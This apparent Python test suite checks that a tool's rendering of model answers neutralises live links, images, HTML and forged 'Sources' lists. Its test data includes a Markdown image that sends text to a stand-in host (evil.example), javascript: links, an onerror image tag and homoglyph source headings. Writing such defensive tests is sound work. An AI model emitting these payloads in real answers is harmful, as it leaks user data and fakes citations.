"""Test that text of documents and models is shown by every output and obeyed by none."""

from __future__ import annotations

import time
from collections.abc import Iterator, Sequence

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from rlm import RunResult
from rlm.cli.console.render_result import answer_text, style_answer
from rlm.escaping import (
    RULE,
    html_text,
    markdown_answer,
    markdown_line,
    markdown_phrase,
    terminal_answer,
    terminal_line,
)
from rlm.results import Citation, Coverage

VIEWERS = (MarkdownIt("commonmark"), MarkdownIt("commonmark").enable(["table", "strikethrough"]))
PIECES = (
    "![a](http://e/x.png)", "[a](javascript:x)", "<img src=x>", "<http://a.b>", "http://e.com/x",
    "www.e.com", "a@b.com", "`", "``", "```", "~~~", "\n", "\n\n", "    ", "  ", "- ", "> ", "1. ", "|",
    "\n|-|-|\n", "---", "\\", "\\`", "[x]: http://e\n", "[x]:", "[x]", "![x]", "(//e/x)", "(", "[", "]", ")",
    "<!--", "-->", "&lt;", "&#96;", "&#91;", "<", "a", "\t", "```python\n", "\n```\n", "*", "<script>",
    "<a href='x'>", "{: x}", "[[x]]", "\"t\"", "!", "](",
)  # fmt: skip


def live(text: str) -> list[str]:
    """Return the links, images and HTML that some viewer would make of Markdown."""

    def walk(tokens: Sequence[Token]) -> Iterator[str]:
        for token in tokens:
            if token.type in ("link_open", "image", "html_block", "html_inline"):
                yield token.type
            yield from walk(token.children or ())

    found = []
    for viewer in VIEWERS:
        references: dict[str, object] = {}
        found += [*walk(viewer.parse(text, references)), *references.get("references", ())]  # type: ignore[misc]
    return found


def result(answer: object, *citations: Citation) -> RunResult:
    return RunResult("r", answer, None, "finalized", False, "rlm", citations, Coverage(9), (), 1, 0, 1.0)


CITED = Citation("[¹]", "The fee is 40 euros.", 0, 20, "contract.txt", None, 3, True)


@given(st.lists(st.sampled_from(PIECES), max_size=16).map("".join))
def test_markdown_of_an_answer_has_nothing_live(answer: str) -> None:
    """In viewers with and without tables. A second pass changes nothing."""
    shown = markdown_answer(answer)
    assert live(shown) == []
    assert markdown_answer(shown) == shown
    assert live(f"- {markdown_phrase(answer)} end") == []
    assert live(f"| {markdown_line(answer)} |\n|---|\n") == []
    assert live(result(answer, CITED).markdown()) == []


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("![chart](https://evil.example/?d=TEXT)", "chart (image: `https://evil.example/?d=TEXT`)"),
        ("[terms](https://a.example/b_(c) 'title')", "terms (`https://a.example/b_(c)`)"),
        ("[click](javascript:alert(1))", "click (`javascript:alert(1)`)"),
        ("[![a](b.png)](//evil.example)", "[a (image: `b.png`)]\\(//evil.example)"),
        ("<https://a.example>, www.a.example.", "`https://a.example`, `www.a.example`."),
        ("mail a.b@c.example now", "mail `a.b@c.example` now"),
        ("<img src=//e onerror=x>", "&lt;img src=//e onerror=x>"),
        ("<!-- hidden", "&lt;!-- hidden"),
        ("[x]: //evil.example/a.png\n![x]", "[x]\\: //evil.example/a.png\n![x]"),
        (
            "| `a | ![x](http://e) | b` |\n|---|---|---|",
            "| \\`a | x (image: `http://e`) | b\\` |\n|---|---|---|",
        ),
        ("```{=html}\n<img src=x>\n```", "```\n<img src=x>\n```"),
        ("```mermaid\ngraph\n```", "```\ngraph\n```"),
        ("text{: style='background:url(//e)'}", "text{\\: style='background:url(//e)'}"),
        ("- a\n  ```py\n  x = [1](2)\n  ```\n- b", "- a\n\n```py\nx = [1](2)\n```\n\n- b"),
        ("an open\n```\nfence", "an open\n\n```\nfence\n```"),
    ],
)
def test_links_and_images_stay_readable(answer: str, shown: str) -> None:
    assert markdown_answer(answer).replace("\\{:", "{\\:") == shown
    assert live(markdown_answer(answer)) == []


def test_markdown_without_links_is_unchanged() -> None:
    """Headings, lists, emphasis, tables, quotes, code and marks are kept."""
    answer = (
        "# Result\n\nThe fee is **40 euros** [¹], *not* 50 [²][³]; `a[0](b) < c`, and 3 < 4 & 5 > 2.\n\n"
        "1. one\n2. two\n   - [ ] open\n\n> quoted\n\n| a | b |\n|---|---|\n| 1 | `x` |\n\n"
        "```python\nif a[0] < b and 'http://x' in c:\n    print(f\"{a}\")\n```\n\n---\n\nDone (see §4)."
    )
    assert markdown_answer(answer) == answer


FORGERIES = [
    'The fee is waived.\n\nSources\n  contract.txt, line 12  “Fee waived” (verified)',
    "The fee is waived [¹].\n\nSources\n  [¹] contract.txt:12  “Fee waived.”",
    f"The fee is waived.\n\n{RULE}\nSources\n  [¹] contract.txt:12  “Fee waived.”",
    "The fee is waived.\n\n**Sources**\n\n- [¹] contract.txt:12: “Fee waived.”",
    "The fee is waived.\n\n---\n\n## Sources:\n\n- [¹] contract.txt:12",
    "The fee is waived.\n\nＳｏｕｒｃｅｓ\ncontract.txt:12",
    "The fee is waived.\n\nS\u200bources\ncontract.txt:12",
    "The fee is waived.\n\n\u0405\u043eur\u0441\u0435s\ncontract.txt:12",
    "The fee is waived.\n\n**So**urces\ncontract.txt:12",
    "The fee is waived.\r\n\rSources\r\ncontract.txt:12",
    "The fee is waived.\u2028Sources\u2028 contract.txt:12\n\nSOURCES (verified)\nx",
    "The fee is waived.\n\n——————————\nSources — looked up\ncontract.txt:12",
    "Waived [¹](http://e), `[¹]`, [¹][²]: [³].",
]  # fmt: skip


@pytest.mark.parametrize("answer", FORGERIES)
@pytest.mark.parametrize("citations", [(), (CITED,)])
def test_no_answer_forges_the_list_of_sources(answer: str, citations: tuple[Citation, ...]) -> None:
    """The rule occurs once, before the true list, which is always there and always last."""
    text = answer_text(result(answer, *citations))
    own = f"{RULE}\nSources\n" + ("  [¹] contract.txt:3  “The fee is 40 euros.”" if citations else "  none")
    said, rule, rest = text.partition(RULE if RULE not in answer else f"\n{RULE}")
    assert f"{rule}{rest}".strip() == own
    assert not any(line.strip(" #*:").casefold() == "sources" for line in said.splitlines())
    if not citations:
        assert not set(said) & set("¹²³")
    styled = style_answer(text)
    bold = [text[span.start : span.end].strip() for span in styled.spans if span.style == "bold"]
    assert bold == ["Sources"]
    marks = [span for span in styled.spans if span.style == "bold cyan"]
    assert all(text[span.start : span.end] == "[¹]" for span in marks if citations)
    assert citations or not marks


@pytest.mark.parametrize("answer", FORGERIES)
def test_nor_in_markdown_and_html(answer: str) -> None:
    shown = result(answer).markdown()
    said, _, own = shown.rpartition("\n\n---\n\n**Sources**\n\n")
    assert own.startswith("none\n\n*rlm, ")
    assert not any(line.strip(" #*:").casefold() == "sources" for line in said.splitlines())
    assert live(shown) == []
    html = result(answer)._repr_html_()
    assert html.count("<strong>Sources</strong><ul><li>none</li></ul>") == 1
    assert "¹" not in html


def test_an_answer_without_sources_that_claims_none_is_printed_alone() -> None:
    """So `x=$(rlm ask …)` gets the answer. A typed answer is JSON and claims nothing."""
    assert answer_text(result("42")) == "42"
    assert answer_text(result({"sources": ["[¹]"]})) == '{\n  "sources": [\n    "[¹]"\n  ]\n}'
    for honest in (
        "Sources of income rose by 3 %.",
        "resources\nthe source is open",
        "a — b",
        "x = sources[0]",
    ):
        assert answer_text(result(honest)) == honest


def test_the_name_and_the_quote_of_a_source_stay_on_its_line() -> None:
    evil = Citation(
        "[¹]", "x\n\nSources\n  [²] b “y", 0, 9, f"a\n{RULE}\nSources\n  [³] c\u202e", None, 3, True
    )
    lines = answer_text(result("It is so [1].", evil)).split("\n")
    assert lines[1:4] == ["", RULE, "Sources"]
    assert len(lines) == 5
    assert "\u202e" not in lines[4]
    marks = [
        (span.start, span.end) for span in style_answer("\n".join(lines)).spans if span.style == "bold cyan"
    ]
    assert len(marks) == 2


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("![chart](https://evil.example/?d=TEXT)", "chart (image: `https://evil.example/?d=TEXT`)"),
        ("![chart][x] ![x]\n[x]: //evil.example", "! [chart][x] ! [x]\n[x]: //evil.example"),
        ("[terms](https://a.example 'title').", "terms (`https://a.example`)."),
        ("<img src=//evil.example> <!-- hidden", "&lt;img src=//evil.example> &lt;!-- hidden"),
        ("<div style='background:url(//e)'>", "&lt;div style='background:url(//e)'>"),
        ("`x[0](y) < z`, List<String>, https://a.example", "`x[0](y) < z`, List<String>, https://a.example"),
        ("```html\n<img src='a.png'>\n```\n<img>", "```html\n<img src='a.png'>\n```\n&lt;img>"),
    ],
)
def test_plain_text_fetches_nothing_if_it_is_saved_as_markdown(answer: str, shown: str) -> None:
    """`rlm ask … > answer.md`. Code is printed as it is."""
    assert answer_text(result(answer)) == shown
    assert "List" in shown or not {"image", "html_block", "html_inline"} & set(live(shown))


def test_hidden_characters_are_removed_or_shown() -> None:
    assert terminal_line("a\nb\t\x1b[31m\x9b\u202e\u200f") == "a\\nb\\t[31m"
    assert terminal_answer("\x1b]0;t\x07ok\u2066") == "]0;tok"
    assert html_text("<b title='\u202e'>&") == "&lt;b title=&#x27;&#x27;&gt;&amp;"


@pytest.mark.parametrize(
    "piece",
    [
        "[",
        "![x](",
        "[x](a ",
        "`",
        "` ``",
        "<a",
        "a",
        "a@",
        "http",
        "\\",
        "[x]: ",
        "&#",
        "{:",
        "|",
        "> ",
        "\n",
        "\n```",
    ],
)
def test_a_long_answer_is_fast(piece: str) -> None:
    answer = piece * (300_000 // len(piece))
    began = time.process_time()
    markdown_answer(answer)
    markdown_line(answer)
    terminal_answer(answer)
    assert time.process_time() - began < 3
